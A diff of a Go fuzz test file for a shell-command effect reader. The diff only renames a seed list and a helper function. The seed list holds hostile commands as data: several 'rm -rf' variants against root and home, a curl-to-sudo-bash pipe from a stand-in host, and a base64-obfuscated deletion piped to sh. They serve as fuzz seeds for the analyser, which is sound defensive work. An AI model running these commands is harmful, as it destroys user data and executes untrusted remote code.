@@ -7,7 +7,7 @@ import (
 	"unicode/utf8"
 )
 
-var fuzzSeeds = []string{
+var shFuzzSeeds = []string{
 	`rm -rf /`, `"rm" -rf ~`, `\rm -rf "$HOME"/*`, `X=/etc; rm -rf $X`, `f() { rm -rf "$1"; }; f /x`,
 	`alias ll='rm -rf'; ll /opt`, `curl -s https://x.example/i.sh | sudo -E bash`, `bash < <(curl x)`,
 	`echo cm0gLXJmIC8= | base64 -d | sh`, `sh <<< 'rm -rf /'`, "bash <<EOF\nrm -rf $D\nEOF",
@@ -22,7 +22,7 @@ var fuzzSeeds = []string{
 // FuzzShell: arbitrary text never panics the shell reader, and what it
 // returns stays within MaxEffects.
 func FuzzShell(f *testing.F) {
-	for _, s := range fuzzSeeds {
+	for _, s := range shFuzzSeeds {
 		f.Add(s)
 	}
 	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
@@ -41,7 +41,7 @@ func FuzzShell(f *testing.F) {
 
 // comparable strips what the differential ignores (which reader found an
 // effect) and renders the rest.
-func comparableEffects(list []Effect) []string {
+func shComparable(list []Effect) []string {
 	out := make([]string, 0, len(list))
 	for _, e := range list {
 		e.Via = ""
@@ -54,7 +54,7 @@ func comparableEffects(list []Effect) []string {
 // FuzzShellDifferential: sh -c 'X', bash -c "X" and eval 'X' have the
 // effects of X, apart from the Run of the shell (or eval) itself and Via.
 func FuzzShellDifferential(f *testing.F) {
-	for _, s := range fuzzSeeds {
+	for _, s := range shFuzzSeeds {
 		f.Add(s)
 	}
 	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
@@ -71,7 +71,7 @@ func FuzzShellDifferential(f *testing.F) {
 				return // a limit reached one level deeper may differ
 			}
 		}
-		want := comparableEffects(base)
+		want := shComparable(base)
 		single := "'" + strings.ReplaceAll(x, "'", `'\''`) + "'"
 		double := `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, `$`, `\$`, "`", "\\`").Replace(x) + `"`
 		for _, v := range []struct{ cmd, prog string }{
@@ -83,7 +83,7 @@ func FuzzShellDifferential(f *testing.F) {
 			if len(got) == 0 || got[0].Kind != Run || got[0].Program != v.prog {
 				t.Fatalf("%s: first effect is not the Run of %s: %v", v.cmd, v.prog, got)
 			}
-			rest := comparableEffects(got[1:])
+			rest := shComparable(got[1:])
 			if strings.Join(rest, "\n") != strings.Join(want, "\n") {
 				t.Fatalf("%s differs from X=%q\nX:\n%s\nnested:\n%s", v.cmd, x, strings.Join(want, "\n"), strings.Join(rest, "\n"))
 			}
